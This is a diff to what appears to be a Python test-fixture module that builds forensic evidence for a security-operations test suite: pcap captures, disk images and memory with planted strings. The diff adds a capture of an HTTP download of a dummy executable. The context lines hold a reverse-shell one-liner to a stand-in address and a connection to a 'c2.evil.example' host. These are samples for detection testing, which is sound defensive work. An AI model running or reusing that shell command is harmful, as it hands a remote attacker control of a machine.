@@ -1,5 +1,6 @@
 """Evidence that is really what it says: images by mke2fs, captures packet by packet, memory with planted texts."""
 
+import hashlib
 import os
 import shutil
 import socket
@@ -9,12 +10,15 @@ from pathlib import Path
 
 import dpkt
 
+from secops.practice.products.packets import Talk, packets_of, pcap
 from tests.enrichment.forensics import windows_material
 from tests.enrichment.forensics.windows_material import AT
 
 LOADER = b"MZ" + b"the loader that was deleted " * 100
 SHELL = b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"
 OUTSIDE = "93.184.216.34"
+PAYLOAD = b"MZ" + b"what was fetched " * 40
+PAYLOAD_SHA256 = hashlib.sha256(PAYLOAD).hexdigest()
 PATH = f"{os.environ.get('PATH', '')}:/usr/sbin:/sbin"
 
 
@@ -69,6 +73,24 @@ def capture(folder: Path) -> Path:
         writer.writepkt(_frame(OUTSIDE, dpkt.tcp.TCP(sport=50000, dport=443, data=hello("c2.evil.example")), 6), AT + 1)
         writer.writepkt(_frame(OUTSIDE, dpkt.tcp.TCP(sport=50001, dport=80, data=request), 6), AT + 2)
         writer.writepkt(b"\0" * 12 + b"\x08\0" + b"\x4f", AT + 3)
+    return path
+
+
+def download(folder: Path) -> Path:
+    """A whole HTTP exchange, handshake to end, in which a file is fetched."""
+    path = folder / "download.pcap"
+    asks = b"GET /a.bin HTTP/1.1\r\nHost: plain.example\r\n\r\n"
+    head = f"HTTP/1.1 200 OK\r\nContent-Length: {len(PAYLOAD)}\r\nContent-Type: application/octet-stream\r\n\r\n"
+    talk = Talk(
+        at=AT,
+        mac="02:42:0a:00:00:05",
+        address="10.0.0.5",
+        port=50_000,
+        peer=OUTSIDE,
+        peer_port=80,
+        name="plain.example",
+    )
+    path.write_bytes(pcap(packets_of(talk, asks=asks, answers=head.encode() + PAYLOAD)))
     return path
 
 
